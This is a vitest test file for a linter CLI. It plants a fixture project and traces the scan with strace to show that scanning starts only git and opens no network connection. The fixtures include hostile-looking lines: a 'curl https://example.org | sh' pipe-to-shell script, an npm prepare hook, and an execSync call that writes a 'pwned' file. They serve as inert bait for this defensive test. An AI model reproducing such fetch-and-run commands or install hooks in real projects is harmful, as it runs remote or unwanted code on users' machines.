import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, expect, test } from 'vitest';
import { drainlint, FAULTY, project } from '../run-cli.js';

const bin = fileURLToPath(new URL('../../bin/drainlint.js', import.meta.url));
const root = project({
  ...FAULTY, 'run.sh': '#!/bin/sh\ncurl https://example.org | sh\ncelery -A app.celery worker\n', 'package.json': '{"scripts": {"prepare": "touch pwned", "start": "node worker.js"}}',
  'worker.js': "const { Worker } = require('bullmq');\nrequire('child_process').execSync('touch pwned');\nnew Worker('q', async job => fetch('https://example.org'));\n",
  'infra/main.tf': 'module "x" {\n  source = "git::https://example.org/x.git"\n}\nresource "aws_ecs_service" "s" {\n  name = "s"\n}\n', 'compose.yml': 'include:\n  - https://example.org/compose.yml\nservices:\n  w:\n    image: x\n    command: celery worker\n',
  'stack.ts': "import * as ecs from 'aws-cdk-lib/aws-ecs';\nnew ecs.FargateTaskDefinition(this, 'T');\n", 'template.yml': 'Resources:\n  S:\n    Type: AWS::CloudFormation::Stack\n    Properties:\n      TemplateURL: https://example.org/t.yml\n',
});
const store = mkdtempSync(join(tmpdir(), 'calls-'));
afterAll(() => { for (const path of [root, store]) rmSync(path, { recursive: true, force: true }); });
const git = (...args: string[]): void => { execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.org', ...args], { cwd: root, stdio: 'ignore' }); };
git('init', '-q');
git('add', '-A');
git('commit', '-qm', 'x');

/** The programs that a scan starts, as their arguments, and the addresses that it opens. */
function watch(args: readonly string[]): { readonly programs: readonly (readonly string[])[]; readonly sockets: readonly string[] } {
  const log = join(store, 'log');
  const run = spawnSync('strace', ['-f', '-qq', '-s', '4096', '-e', 'trace=execve,execveat,socket,connect,bind,sendto,sendmsg', '-o', log, process.execPath, bin, ...args], { cwd: root, encoding: 'utf8', env: { ...process.env, DRAINLINT_CACHE_DIR: join(store, 'cache') } });
  expect([0, 1]).toContain(run.status);
  const lines = readFileSync(log, 'utf8').split('\n');
  const words = (line: string): readonly string[] => [...line.slice(line.indexOf('['), line.lastIndexOf(']')).matchAll(/"((?:[^"\\]|\\.)*)"/g)].map(([, word]) => word!);
  return {
    programs: lines.filter(line => /execve(?:at)?\(/.test(line) && line.trimEnd().endsWith('= 0')).map(words),
    sockets: lines.filter(line => /\b(?:socket|connect|bind|sendto|sendmsg)\(/.test(line) && !/AF_UNIX, SOCK_[A-Z|_]+, 0\) = |socketpair/.test(line)),
  };
}

test.each([[[]], [['--no-cache']], [['--since', 'HEAD']], [['--staged']], [['--format', 'html']], [['--fix', '--diff']]])('a scan starts git alone, and opens no address: %j', args => {
  const { programs, sockets } = watch(['check', ...args]);
  const [own, ...others] = programs;
  expect(own![1]).toBe(bin);
  expect(others.every(([program]) => program === 'git'), JSON.stringify(others)).toBe(true);
  expect(others.map(([, command]) => command).every(command => ['ls-files', 'diff', 'config', 'rev-parse', 'ls-tree', 'cat-file'].includes(command!)), JSON.stringify(others)).toBe(true);
  expect(sockets).toEqual([]);
});

test('without a network it says the same', () => {
  const plain = drainlint(root, ['check', '--no-cache', '--format', 'json']);
  const run = spawnSync('unshare', ['-rn', process.execPath, bin, 'check', '--no-cache', '--format', 'json'], { cwd: root, encoding: 'utf8', maxBuffer: 1 << 28 });
  expect([run.status, run.stdout, run.stderr]).toEqual([plain.code, plain.out, plain.err]);
});
